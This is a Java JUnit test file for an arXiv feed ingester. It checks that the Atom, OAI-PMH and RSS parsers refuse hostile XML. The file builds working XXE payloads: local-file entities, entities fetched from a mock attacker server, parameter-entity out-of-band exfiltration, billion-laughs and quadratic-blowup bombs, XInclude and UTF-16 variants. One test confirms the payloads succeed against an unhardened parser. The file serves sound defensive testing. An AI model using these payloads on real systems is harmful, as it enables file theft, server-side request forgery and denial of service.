package org.paperradio.ingest.arxiv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.atomic.AtomicReference;
import java.util.function.BiFunction;
import javax.xml.parsers.DocumentBuilder;
import javax.xml.parsers.DocumentBuilderFactory;
import okhttp3.mockwebserver.Dispatcher;
import okhttp3.mockwebserver.MockResponse;
import okhttp3.mockwebserver.MockWebServer;
import okhttp3.mockwebserver.RecordedRequest;
import okio.Buffer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.paperradio.core.config.StationConfig;
import org.paperradio.core.paper.ArxivId;
import org.paperradio.core.paper.License;
import org.paperradio.core.paper.PaperMeta;
import org.paperradio.ingest.testing.TestFeeds;
import org.paperradio.ingest.testing.TestHttp;
import org.paperradio.ingest.testing.TestPapers;
import org.xml.sax.SAXException;
import org.xml.sax.helpers.DefaultHandler;

/**
 * Hostile XML as arXiv's answers (API Atom feed, OAI-PMH record, RSS feed), served over loopback
 * to the real HTTP client and parsers: external entities to a local file and to a loopback
 * server that records every hit, external DTDs, parameter entities, entity expansion bombs,
 * XInclude, schema locations, stylesheet instructions, and the same in UTF-16. No answer may
 * carry the file's content into a parsed field or an error message, the recording server must
 * never be asked anything, and each answer is dealt with quickly.
 */
class XxeTest {

    private static final String SECRET = "TOP-SECRET-XXE-CONTENT-7f3a";
    private static final String MARK = "XXE-TITLE-MARK";
    /** Far above what refusing a document takes, far below an expansion bomb or a network wait. */
    private static final Duration QUICK = Duration.ofSeconds(3);

    @TempDir
    Path dir;

    private final MockWebServer arxiv = new MockWebServer();
    /** Stands in for an attacker's server: any request it gets is a leak. */
    private final MockWebServer attacker = new MockWebServer();
    private final AtomicReference<byte[]> answer = new AtomicReference<>();
    private ArxivHttp http;
    private Path secret;

    /** One hostile rewrite of a valid document, given where the secret file and the attacker are. */
    enum Payload {
        /** The classic: an entity whose replacement text is a local file. */
        FILE_ENTITY((xml, t) -> doctype(xml, "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"" + t.file + "\">]>", "&xxe;")),
        /** An entity fetched from the network (server-side request forgery). */
        HTTP_ENTITY((xml, t) -> doctype(xml, "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"" + t.http + "entity\">]>", "&xxe;")),
        /** An external DTD subset. */
        EXTERNAL_DTD((xml, t) -> doctype(xml, "<!DOCTYPE r SYSTEM \"" + t.http + "evil.dtd\">", MARK)),
        /** A public id with a system id: still a fetch. */
        PUBLIC_DTD((xml, t) -> doctype(xml, "<!DOCTYPE r PUBLIC \"-//EVIL//DTD//EN\" \"" + t.http + "public.dtd\">", MARK)),
        /** Parameter entities: the out-of-band exfiltration pattern. */
        PARAMETER_ENTITY((xml, t) -> doctype(xml, "<!DOCTYPE r [<!ENTITY % file SYSTEM \"" + t.file + "\">"
                + "<!ENTITY % dtd SYSTEM \"" + t.http + "oob.dtd\"> %dtd;]>", MARK)),
        /** A billion laughs: ten levels of ten, 10^9 copies. */
        BILLION_LAUGHS((xml, t) -> {
            StringBuilder d = new StringBuilder("<!DOCTYPE r [<!ENTITY lol0 \"lol\">");
            for (int i = 1; i <= 9; i++) {
                d.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
            }
            return doctype(xml, d.append("]>").toString(), "&lol9;");
        }),
        /** Quadratic blowup: one big internal entity used many times (no nesting to count). */
        QUADRATIC_BLOWUP((xml, t) -> doctype(xml, "<!DOCTYPE r [<!ENTITY big \"" + "x".repeat(50_000) + "\">]>",
                "&big;".repeat(2_000))),
        /** An internal DTD only: harmless in itself, still never accepted. */
        INTERNAL_DTD((xml, t) -> doctype(xml, "<!DOCTYPE r [<!ELEMENT r ANY>]>", MARK)),
        /** The file entity with the document in UTF-16, in case a filter looks at bytes. */
        UTF16_FILE_ENTITY((xml, t) -> new String(utf16(doctype(xml, "<!DOCTYPE r [<!ENTITY xxe SYSTEM \"" + t.file
                + "\">]>", "&xxe;")), StandardCharsets.ISO_8859_1)),
        /** XInclude of the file as text, no DTD needed. */
        XINCLUDE((xml, t) -> xml.replace(MARK, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\""
                + t.file + "\" parse=\"text\"/>")),
        /** XInclude from the network. */
        XINCLUDE_HTTP((xml, t) -> xml.replace(MARK, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\""
                + t.http + "xinclude\" parse=\"text\"/>")),
        /** A schema location and a stylesheet instruction, which a validating or transforming reader would fetch. */
        SCHEMA_AND_STYLESHEET((xml, t) -> xml.replaceFirst("\\?>", "?>\n<?xml-stylesheet type=\"text/xsl\" href=\""
                + t.http + "style.xsl\"?>").replace(MARK, "<t xmlns:xsi=\"http://www.w3.org/2001/"
                + "XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"" + t.http + "schema.xsd\">" + MARK + "</t>"));

        private final BiFunction<String, Targets, String> rewrite;

        Payload(BiFunction<String, Targets, String> rewrite) {
            this.rewrite = rewrite;
        }

        /** The hostile document's bytes (UTF-16 payloads come back as Latin-1 text of their bytes). */
        byte[] bytes(String valid, Targets targets) {
            String xml = rewrite.apply(valid, targets);
            assertThat(xml).as("the payload changed the document").isNotEqualTo(valid);
            return this == UTF16_FILE_ENTITY ? xml.getBytes(StandardCharsets.ISO_8859_1) : xml.getBytes(StandardCharsets.UTF_8);
        }

        boolean hasDoctype() {
            return !name().startsWith("XINCLUDE") && this != SCHEMA_AND_STYLESHEET;
        }
    }

    /** Where the payloads point: the secret file's URL and the attacker's base URL. */
    record Targets(String file, String http) {
    }

    /** {@code xml} with a DOCTYPE after its declaration and the marked title replaced by {@code title}. */
    private static String doctype(String xml, String doctype, String title) {
        int decl = xml.indexOf("?>") + 2;
        return xml.substring(0, decl) + "\n" + doctype + xml.substring(decl).replace(MARK, title);
    }

    private static byte[] utf16(String xml) {
        String declared = xml.replaceFirst("encoding=['\"]UTF-8['\"]", "encoding=\"UTF-16\"");
        return declared.getBytes(StandardCharsets.UTF_16); // with a byte order mark
    }

    @BeforeEach
    void start() throws IOException {
        secret = dir.resolve("secret.txt");
        Files.writeString(secret, SECRET);
        arxiv.setDispatcher(new Dispatcher() {
            @Override
            public MockResponse dispatch(RecordedRequest request) {
                return new MockResponse().setHeader("Content-Type", "application/xml")
                        .setBody(new Buffer().write(answer.get()));
            }
        });
        arxiv.start();
        attacker.setDispatcher(new Dispatcher() {
            @Override
            public MockResponse dispatch(RecordedRequest request) {
                // what a real attacker's server would answer: the secret, and a DTD that asks for more
                return new MockResponse().setBody("<!ENTITY leak \"" + SECRET + "\">");
            }
        });
        attacker.start();
        http = new ArxivHttp(TestHttp.settings(Duration.ZERO));
    }

    @AfterEach
    void stop() throws IOException {
        http.close();
        arxiv.shutdown();
        attacker.shutdown();
    }

    private Targets targets() {
        return new Targets(secret.toUri().toString(), attacker.url("/").toString());
    }

    private static PaperMeta marked() {
        PaperMeta p = TestPapers.get(0).metaWithPdfAt(URI.create("https://arxiv.org/"));
        return new PaperMeta(p.id(), MARK, p.authors(), p.abstractText(), p.categories(), p.published(), p.updated(),
                p.pdfUrl(), License.of("http://creativecommons.org/licenses/by/4.0/"));
    }

    @ParameterizedTest
    @EnumSource(Payload.class)
    void theApiFeedNeverExpandsOrFetches(Payload payload) throws Exception {
        answer.set(payload.bytes(TestFeeds.atom(List.of(marked())), targets()));
        StationConfig.Arxiv config = TestHttp.arxivConfig(arxiv.url("/").uri(), List.of("cs.AI"), 10);
        ArxivSource source = new ArxivSource(http, config);

        Object outcome = timed(source::poll);

        check(payload, outcome);
    }

    @ParameterizedTest
    @EnumSource(Payload.class)
    void theOaiRecordNeverExpandsOrFetches(Payload payload) throws Exception {
        PaperMeta p = marked();
        answer.set(payload.bytes(TestFeeds.oaiGetRecord(p, p.license()), targets()));
        LicenseLookup lookup = new LicenseLookup(http, arxiv.url("/oai").uri());

        // the lookup never fails (a bad record is an unknown license); the parser says why
        License license = timed(() -> lookup.lookup(ArxivId.parse("2501.00001v1"))) instanceof License l ? l : null;
        assertThat(license).isNotNull();
        assertThat(String.valueOf(license)).doesNotContain(SECRET);
        if (payload.hasDoctype()) {
            assertThat(license.isKnown()).as("a record with a DOCTYPE is not read").isFalse();
        }
        Object outcome = timed(() -> new OaiRecordParser().parse(http.get(arxiv.url("/oai"), LicenseLookup.MAX_RECORD_BYTES)));

        check(payload, outcome);
    }

    @ParameterizedTest
    @EnumSource(Payload.class)
    void theRssFeedNeverExpandsOrFetches(Payload payload) throws Exception {
        answer.set(payload.bytes(TestFeeds.rss(List.of(marked()), "new"), targets()));

        Object outcome = timed(() -> new RssFeedParser().parse(http.get(arxiv.url("/rss/cs"), ArxivSource.MAX_FEED_BYTES)));

        check(payload, outcome);
    }

    /**
     * The payloads are live: a parser left at the JDK's defaults reads the file, asks the
     * attacker's server and includes the file, so the tests above would catch a parser that
     * lost its hardening.
     */
    @Test
    void thePayloadsWorkAgainstAnUnhardenedParser() throws Exception {
        String valid = TestFeeds.rss(List.of(marked()), "new");
        DocumentBuilderFactory plain = DocumentBuilderFactory.newInstance();
        plain.setNamespaceAware(true);
        String file = plain.newDocumentBuilder().parse(new ByteArrayInputStream(
                Payload.FILE_ENTITY.bytes(valid, targets()))).getDocumentElement().getTextContent();
        assertThat(file).contains(SECRET);

        DocumentBuilder builder = plain.newDocumentBuilder();
        builder.setErrorHandler(new DefaultHandler()); // quiet: the fetch is what counts
        try {
            builder.parse(new ByteArrayInputStream(Payload.HTTP_ENTITY.bytes(valid, targets())));
        } catch (SAXException e) {
            // the attacker's answer is a DTD fragment, not element content
        }
        assertThat(attacker.getRequestCount()).isPositive();

        plain.setXIncludeAware(true);
        String included = plain.newDocumentBuilder().parse(new ByteArrayInputStream(
                Payload.XINCLUDE.bytes(valid, targets()))).getDocumentElement().getTextContent();
        assertThat(included).contains(SECRET);
    }

    /** What parsing gave (a value or the exception thrown), refused when it took long. */
    private static Object timed(ThrowingSupplier call) {
        long start = System.nanoTime();
        Object outcome;
        try {
            outcome = call.get();
        } catch (Exception e) {
            outcome = e;
        }
        Duration took = Duration.ofNanos(System.nanoTime() - start);
        assertThat(took).as("dealt with quickly, not expanded or fetched").isLessThan(QUICK);
        return outcome;
    }

    @FunctionalInterface
    private interface ThrowingSupplier {
        Object get() throws Exception;
    }

    private void check(Payload payload, Object outcome) {
        assertThat(attacker.getRequestCount()).as("requests the parser made to the attacker's server").isZero();
        String text = outcome instanceof Throwable t ? chain(t) : String.valueOf(outcome);
        assertThat(text).as("what parsing gave").doesNotContain(SECRET).doesNotContain("lollollol");
        if (payload.hasDoctype()) {
            assertThat(outcome).as("a DOCTYPE is refused").isInstanceOf(FeedException.class);
            assertThat(((Throwable) outcome).getMessage()).as("a clear error").containsIgnoringCase("DOCTYPE");
        }
    }

    private static String chain(Throwable t) {
        StringBuilder s = new StringBuilder();
        for (Throwable c = t; c != null; c = c.getCause()) {
            s.append(c).append(" | ");
        }
        return s.toString();
    }
}
